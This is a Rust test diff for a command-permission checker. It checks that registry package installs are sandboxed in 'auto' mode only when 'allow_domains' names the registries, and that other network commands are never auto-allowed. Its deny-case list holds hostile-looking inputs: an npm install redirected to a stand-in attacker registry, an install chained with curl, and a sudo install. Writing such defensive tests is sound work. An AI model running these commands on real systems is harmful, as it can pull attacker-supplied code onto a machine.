@@ -169,3 +169,69 @@ fn check_batch_in_mode_auto_answers_each_line() {
     assert_eq!(lines[1]["decision"], json!("ask"));
     assert_eq!(lines[1]["sandbox"], json!(false));
 }
+
+const INSTALLS: &[&str] = &[
+    "npm install",
+    "npm ci",
+    "pnpm install",
+    "yarn add lodash",
+    "pip install -e .",
+    ".venv/bin/pip install -r requirements.txt",
+    "uv sync",
+    "cargo fetch",
+    "go mod tidy",
+    "go mod download",
+];
+
+/// Network that is not a package install from a registry: asked in `auto`
+/// exactly as in `default`, even with `allow_domains` set.
+const NETWORK_NOT_INSTALL: &[&str] = &[
+    "git push",
+    "curl https://registry.npmjs.org/x",
+    "npm publish",
+    "cargo install ripgrep",
+    "npm install && curl https://example.com",
+    "npm_config_registry=http://evil.example npm install",
+    "sudo npm install",
+];
+
+#[test]
+fn check_mode_auto_runs_registry_installs_in_the_sandbox_only_when_allow_domains_names_registries()
+{
+    let e = env();
+    let available = sandbox_available(&e);
+    let proxied = e.home.join("proxied.toml");
+    std::fs::write(
+        &proxied,
+        "[sandbox]\nallow_domains = [\"registry.npmjs.org\", \"pypi.org\", \"proxy.golang.org\"]\n",
+    )
+    .unwrap();
+    let proxied = proxied.display().to_string();
+    for cmd in INSTALLS {
+        // Without allow_domains: asked, as in default.
+        let plain = check(&e, "auto", cmd, &[]);
+        assert_eq!(plain["decision"], json!("ask"), "{cmd}: {plain}");
+        let v = check(&e, "auto", cmd, &["--config", &proxied]);
+        if available {
+            assert_eq!(
+                seen(&v),
+                (json!("allow"), json!("sandbox"), json!(true)),
+                "{cmd}: {v}"
+            );
+            assert!(
+                v["reason"].as_str().unwrap().contains("allow_domains"),
+                "{cmd}: {v}"
+            );
+        } else {
+            assert_eq!(v["decision"], json!("ask"), "{cmd}: {v}");
+        }
+        // In default mode, allow_domains changes nothing.
+        let d = check(&e, "default", cmd, &["--config", &proxied]);
+        assert_eq!(d["decision"], json!("ask"), "{cmd}: {d}");
+    }
+    for cmd in NETWORK_NOT_INSTALL {
+        let a = check(&e, "auto", cmd, &["--config", &proxied]);
+        assert_ne!(a["decision"], json!("allow"), "{cmd}: {a}");
+        assert_eq!(a["sandbox"], json!(false), "{cmd}: {a}");
+    }
+}
